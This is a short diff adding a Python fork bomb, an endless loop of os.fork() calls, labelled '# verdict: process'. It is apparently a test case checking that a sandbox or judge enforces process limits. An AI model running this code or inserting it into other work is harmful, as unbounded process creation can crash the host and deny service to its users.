@@ -1,0 +1,5 @@
+# verdict: process
+import os
+
+while True:
+    os.fork()
